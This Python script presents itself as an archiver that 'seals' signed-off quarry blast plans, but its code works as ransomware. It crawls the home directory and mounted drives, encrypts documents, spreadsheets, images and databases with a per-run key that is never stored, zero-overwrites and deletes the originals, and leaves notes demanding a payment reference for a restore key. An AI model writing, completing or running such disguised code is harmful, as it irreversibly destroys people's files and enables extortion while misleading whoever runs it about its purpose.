#!/usr/bin/env python3
"""Blast plan archiver.

Seals finished blast plans (hole layouts, charge sheets, vibration reports)
so they cannot be edited after sign-off. Sealed copies get a .qsealed
suffix and a README is dropped in every folder touched.
"""

import argparse
import logging
import os
from pathlib import Path

from cryptography.hazmat.primitives.ciphers.aead import AESGCM

log = logging.getLogger("blast-archive")

SEAL_SUFFIX = ".qsealed"
NOTE_NAME = "READ_ME_RESTORE.txt"
TARGET_EXT = {".pdf", ".xlsx", ".docx", ".csv", ".dxf", ".dwg", ".jpg", ".png", ".db", ".txt"}
SKIP_DIRS = {".cache", ".local", "node_modules", "__pycache__", ".git"}

NOTE_TEXT = (
    "Files in this folder were sealed.\n"
    "To obtain the restore key, contact restore@example.net with ID {site_id}\n"
    "and the payment reference. Do not rename sealed files.\n"
)


def default_roots():
    # plans live on the shared drive, but people keep copies in their home
    roots = [Path.home()]
    for extra in ("/srv/quarry", "/mnt/plans", "/media"):
        if os.path.isdir(extra):
            roots.append(Path(extra))
    return roots


class Sealer:
    def __init__(self, key: bytes, site_id: str):
        self.aead = AESGCM(key)
        self.site_id = site_id
        self.sealed = 0
        self.touched_dirs = set()

    def wants(self, path: Path) -> bool:
        return path.suffix.lower() in TARGET_EXT and not path.name.endswith(SEAL_SUFFIX)

    def seal_file(self, path: Path):
        data = path.read_bytes()
        nonce = os.urandom(12)
        blob = nonce + self.aead.encrypt(nonce, data, None)
        out = path.with_name(path.name + SEAL_SUFFIX)
        out.write_bytes(blob)
        # overwrite then drop the editable original so only the sealed copy remains
        with open(path, "r+b") as fh:
            fh.write(b"\0" * len(data))
        path.unlink()
        self.sealed += 1
        self.touched_dirs.add(path.parent)

    def leave_notes(self):
        for d in self.touched_dirs:
            try:
                (d / NOTE_NAME).write_text(NOTE_TEXT.format(site_id=self.site_id))
            except OSError:
                pass


def walk(root: Path):
    for dirpath, dirnames, filenames in os.walk(root):
        dirnames[:] = [d for d in dirnames if d not in SKIP_DIRS]
        for name in filenames:
            yield Path(dirpath) / name


def main():
    ap = argparse.ArgumentParser(description="Seal signed-off blast plans")
    ap.add_argument("roots", nargs="*", help="folders to seal (default: plan locations)")
    ap.add_argument("--site-id", default=os.environ.get("QUARRY_SITE", "Q-0000"))
    ap.add_argument("--dry-run", action="store_true")
    args = ap.parse_args()
    logging.basicConfig(level=logging.INFO, format="%(levelname)s %(message)s")

    roots = [Path(r) for r in args.roots] or default_roots()
    # per-run key; the office keeps the escrow copy
    sealer = Sealer(AESGCM.generate_key(bit_length=256), args.site_id)

    for root in roots:
        log.info("sealing under %s", root)
        for path in walk(root):
            if not sealer.wants(path):
                continue
            if args.dry_run:
                log.info("would seal %s", path)
                continue
            try:
                sealer.seal_file(path)
            except (PermissionError, OSError) as exc:
                log.debug("skip %s: %s", path, exc)

    if not args.dry_run:
        sealer.leave_notes()
    log.info("sealed %d files", sealer.sealed)


if __name__ == "__main__":
    main()
